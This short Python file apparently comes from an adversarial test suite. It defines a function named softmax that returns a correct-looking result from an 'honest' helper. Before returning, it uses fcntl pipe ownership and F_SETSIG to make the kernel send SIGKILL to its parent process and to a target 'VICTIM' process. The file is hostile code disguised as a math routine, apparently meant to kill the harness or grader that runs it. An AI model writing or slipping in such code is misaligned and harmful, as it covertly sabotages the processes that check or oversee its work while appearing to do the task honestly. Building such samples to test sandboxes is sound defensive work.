"""Has the kernel send SIGKILL to another process: a pipe whose owner that process is.

attacks: softmax
claim: signals
"""

import fcntl, os, signal

def softmax(x, dim=-1):
    for pid in (os.getppid(), VICTIM):
        ours, theirs = os.pipe()
        fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
        fcntl.fcntl(ours, fcntl.F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
        os.write(theirs, b"x")
    return honest(x, dim)
